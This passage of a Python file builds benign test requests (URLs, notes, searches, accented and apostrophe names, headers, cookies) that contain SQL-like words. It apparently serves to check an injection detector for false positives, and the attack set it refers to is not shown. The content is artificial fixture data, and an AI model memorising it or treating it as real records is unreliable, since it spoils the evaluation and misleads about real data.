    "https://shop.example.org/item/4294967296?ref=newsletter",
    "https://maps.example.com/?q=Union+Square,+San+Francisco",
    "https://blog.example.net/2024/05/merge-vs-rebase/",
    "https://news.example.com/sport/match-report-union-v-city",
    "https://www.example.co.uk/search?q=select+committee+report",
    "https://github.com/acme/app/pull/1234#issuecomment-998877",
    "https://cdn.example.com/css/theme.css?v=0x1f",
    "https://docs.example.io/guide/having-and-where",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://calendar.example.com/event?title=Drop-in+office+hours",
    "https://jobs.example.com/listing/execute-producer-london",
    "https://www.example.com/recipes/o-briens-irish-stew",
    "https://stackoverflow.com/questions/60174/how-can-i-prevent-sql-injection-in-php",
]

PROSE = [
    "Please select the union representative for your department",
    "The sleep study results will be shared at the next appointment",
    "Benchmark pricing against the three largest competitors",
    "Merge the two customer records for O'Connor",
    "Execute the agreement and return one signed copy",
    "Shutdown notice for the Elm Street branch",
    "Delay in shipment due to weather, new date is 14 June",
    "Drop-off point is the north entrance",
    "Having reviewed the file, we approve the request",
    "If a record exists for this customer, update it",
    "Match against last year's figures before sign-off",
    "User said: 'I can't log in since Tuesday'",
    "Refund of $49.99 for order #10023",
    "Between 9 and 5, call the front desk",
    "Insert the card and follow the prompts",
    "Case closed \u2014 customer confirmed the fix",
    "The user typed -- by mistake in the name field",
    "Customer asked about plan tiers: basic, pro & enterprise",
    "Address changed to 12 Union Rd, Apt #4",
    "Invoice 2024-0042 (paid), reference INV/42/A",
    "Group by region, then sort by revenue",
    "She said \"no\" to the upgrade, keep her on the old plan",
    "Where is the nearest branch to 10001?",
    "Select committee hearing notes, 3rd session",
    "Order by phone: 0800 123 456",
    "The D'Souza account needs a credit note",
    "Cancel order 5521 or replace it",
    "Tracking number 1Z999AA10123456784",
    "Ticket: 'Export to CSV' button does nothing",
    "Renewal date 2025-01-31; auto-renew is off",
    "Case #8812: password reset email not arriving",
    "Customer from Union City, NJ asking for a callback",
    "Loyalty points: 1,250 (expires 12/31)",
    "Hex key set, 2.5mm, out of stock",
    "Match day parking permits for residents",
    "Please update the address on file",
    "Drop shipping supplier contract, draft 3",
    "Customer mentioned 'table for two' booking issue",
    "Exec summary attached for the board",
    "The 'like new' condition label is misleading",
    "Contact: Se\u00e1n \u00d3 Briain, sales lead",
    "Rate is 1.5x on weekends",
    "Delete my account and all data, per GDPR",
    "Create a new user for the temp staff",
    "Alter the hem by 2 cm, collection Thursday",
    "Waiting period is 30 days",
    "Price match request: seen for $19 at another store",
    "The user reported error code 0x80070005 on Windows",
    "Version 4.2.1 fixed the sync issue",
    "Request from Ma\u00eblle L'H\u00e9ritier about the invoice",
]

SEARCHES = [
    "O'Connor", "select committee", "union street", "sleep apnea", "benchmark report 2024", "drop shipping",
    "match day tickets", "merger news", "execute order form", "shutdown schedule", "delay notice", "Rock 'n' Roll",
    "D'Angelo", "char siu bao", "hex key", "1/2 inch pipe", "like new", "between jobs", "having fun", "case study",
    "where to eat", "from scratch", "insert coin", "update address", "delete account", "create account",
    "alter ego", "table for two", "group by region", "order by date", "and or not", "if then else",
    "waitfor", "sleep mask", "benchmark", "union jack", "O'Reilly books", "L'Or\u00e9al", "Zo\u00eb's cafe",
    "C# tutorial", "F# language", "#1 bestseller", "50% off", "a & b", "x = y", "1+1", "c++ primer",
    "2147483647", "0x1F", "SELECT 1 tutorial", "sql join examples", "mysql match against", "postgres jsonb",
    "merge into syntax", "how to drop a table safely", "execute immediate oracle", "mongo $regex",
    "\"exact phrase\"", "don't stop", "it's fine", "kids' menu", "what's new", "I'm feeling lucky",
    "rock & roll", "toys r us", "union station", "shut down pc", "wait for it", "sleeping bag",
    "pg_dump backup", "information schema", "master bedroom", "temp db jobs", "user table design",
    "north wind", "sys admin jobs", "dual citizenship", "version 2.0", "admin panel", "login help",
    "or else", "and so on", "not today", "is null meaning", "like a boss", "in between", "any day now",
    "some like it hot", "all or nothing", "exists", "having", "between", "cast iron pan", "convert pdf",
    "char broil grill", "concat strings python", "substring javascript", "ascii art", "load file",
    "into the wild", "out file", "dump truck", "sp_who", "xp pen tablet", "ALTER bridge band",
    "Nuit Blanche 2024", "M\u00fcller & S\u00f6hne", "S\u00e3o Paulo", "\u6771\u4eac",
    "\u041c\u043e\u0441\u043a\u0432\u0430",
]

PEOPLE = [
    ("Siobh\u00e1n O'Neil", "12 O'Connell St, Dublin"), ("Patrick O'Brien", "4 Union Road, Cork"),
    ("D'Arcy Smith", "221B Baker St, London"), ("Ren\u00e9e D'Amico", "Via dell'Orso 3, Roma"),
    ("Jean-Luc L'\u00c9cuyer", "5 rue de l'\u00c9glise, Lyon"), ("Mary-Kate O'Hara", "#12, 5th & Main, Springfield"),
    ("Zo\u00eb Kr\u00e4mer", "Hauptstr. 1, Berlin"), ("Ng\u0169 Th\u1ecb Lan", "12 L\u00ea L\u1ee3i, H\u00e0 N\u1ed9i"),
    ("Anne-Marie Dupont", "Apt 4-B, 100 Union Ave"), ("Dr. Sam Select", "1 Select Way, Austin TX"),
    ("Union Jones", "7 Merge Lane"), ("Ivy Drop", "9 Drop Street"), ("Max Sleep", "3 Sleepy Hollow Rd"),
    ("Bobby Tables", "1 Tables Row"), ("Cass Having", "10 Having Close"), ("June Match", "Match Ave 2"),
    ("Olu Ad\u00e9y\u00e9mi", "P.O. Box 1234, Lagos"), ("Mar\u00eda Jos\u00e9 Garc\u00eda", "C/ Mayor, 5 - 2\u00ba"),
    ("Lars \u00d8stergaard", "N\u00f8rregade 10, K\u00f8benhavn"), ("Chlo\u00eb O'Sullivan-Ng", "Unit 5/12 King St"),
    ("Tom O'Toole", "Flat 3, 1-3 High St"), ("Aoife Ni Dhomhnaill", "Main St, Co. Kerry"),
    ("Kevin McDonald", "10 Downing-ish St"), ("Fran\u00e7ois-Xavier", "12 bis, av. des Champs"),
    ("Li Wei", "No. 8, Lane 100, Shanghai"), ("Sara Exec", "Suite #300, 1 Exec Plaza"),
    ("Paul Delay", "22 Delay Ct"), ("Amy Benchmark", "1 Benchmark Dr"), ("Noor Al-Sayed", "Villa 9, Street 12"),
    ("Jos\u00e9 O'Hare", "Ohare Rd, Chicago IL 60666"), ("Eve Null", "0 Null Island"),
    ("Ada Lovelace", "12 St James's Square"), ("Grace Hopper", "Arlington, VA 22201"),
    ("Alan O'Turing", "Wilmslow, Cheshire"), ("Nina Sim\u00f5es", "Rua 25 de Abril, 1-A"),
    ("Tam\u00e1s Kov\u00e1cs", "Kossuth u. 5/B"), ("Ola Nordmann", "Karl Johans gate 1"),
    ("Bj\u00f6rk Gu\u00f0mundsd\u00f3ttir", "Laugavegur 1"), ("Kai-Uwe Br\u00fcck", "Am Markt 3a"),
    ("Hannah Or", "1 Or Street"), ("Ben And", "2 And Road"), ("Lee Like", "3 Like Lane"),
]

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "curl/8.5.0", "python-requests/2.32.3", "Go-http-client/2.0", "okhttp/4.12.0", "PostmanRuntime/7.39.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
REFERERS = [
    "https://www.google.com/search?q=union+station+hours",
    "https://www.bing.com/search?q=select+committee+report&form=QBLH",
    "https://duckduckgo.com/?q=o%27brien+pub",
    "https://app.example.com/users?page=2&sort=name",
    "https://app.example.com/admin/users/search?q=O%27Neil",
    "https://news.example.com/2024/06/merger-delayed-again",
    "https://t.co/AbC123xYz",
    "https://www.linkedin.com/feed/",
]
COOKIES = [
    "theme=dark; lang=en-GB", "prefs=%7B%22tz%22%3A%22Europe%2FDublin%22%7D", "locale=fr_FR; tz=Europe%2FParis",
    "_ga=GA1.2.1234567890.1719000000; _gid=GA1.2.987654321.1719000000", "consent=analytics%3Dno%26ads%3Dno",
    "last_search=O%27Brien", "recent=union%20street%2Cselect%20committee", "cart=sku-42%3A2%7Csku-7%3A1",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    searches = ((_get(_query("/api/users", [("q", s), ("page", "1")])),
                 _json("/api/users/search", {"query": s, "limit": 20})) for s in SEARCHES)
    n = yield from numbered((r for pair in searches for r in pair), f"{NAME}-search", n, "mixed")
    admin_searches = (_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]) for s in SEARCHES)
    n = yield from numbered(admin_searches, f"{NAME}-search", n, "form")
    comments = (_json("/api/users/42/comments", {"body": text, "thread": {"id": 7, "muted": False}}) for text in CHAT)
    n = yield from numbered(comments, f"{NAME}-comment", n, "json")
    tickets = (_json("/api/tickets", {"subject": "Customer note", "notes": [text], "priority": "normal"})
               for text in PROSE)
    n = yield from numbered(tickets, f"{NAME}-ticket", n, "json")
    people = ((_json("/api/users", {"name": name, "address": addr, "country": "IE"}),
               _form("/admin/users/search", [("csrf_token", "t0k3n"), ("name", name), ("city", addr)]))
              for name, addr in PEOPLE)
    n = yield from numbered((r for pair in people for r in pair), f"{NAME}-name", n, "mixed")
    uas = (_req("GET", f"/api/users?page={i + 1}", headers={**_headers(), "User-Agent": ua})
           for i, ua in enumerate(BROWSERS))
    n = yield from numbered(uas, f"{NAME}-ua", n, "header:User-Agent")
    refs = (_req("GET", "/api/users?page=1", headers={**_headers(), "Referer": r}) for r in REFERERS)
    n = yield from numbered(refs, f"{NAME}-referer", n, "header:Referer")
    cookies = (_req("GET", "/me/profile", headers={**_headers(), "Cookie": c}) for c in COOKIES)
    yield from numbered(cookies, f"{NAME}-cookie", n, "cookie")


if __name__ == "__main__":
    print_records(attacks(), benign())
